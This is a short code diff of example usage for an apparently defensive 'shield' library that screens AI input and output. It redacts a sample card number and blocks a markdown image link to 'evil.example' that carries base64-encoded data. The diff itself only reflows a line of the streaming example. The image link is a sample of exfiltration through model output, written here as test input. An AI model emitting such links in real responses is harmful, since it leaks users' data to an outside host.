@@ -10,5 +10,6 @@ const order = await shield.check({ text: `Charge my card ${['4111', '1111', '111
 console.log(order.outcome, order.text) // redact Charge my card [CREDIT_CARD], please.
 
 const stream = shield.openStream({ stage: 'output' })
-for (const chunk of ['Here: ![chart](https://ev', 'il.example/?q=c2VjcmV0)', ' Done.']) process.stdout.write(stream.push(chunk).text)
+for (const chunk of ['Here: ![chart](https://ev', 'il.example/?q=c2VjcmV0)', ' Done.'])
+  process.stdout.write(stream.push(chunk).text)
 process.stdout.write(`${stream.end().text}\n`) // the image never reaches the screen
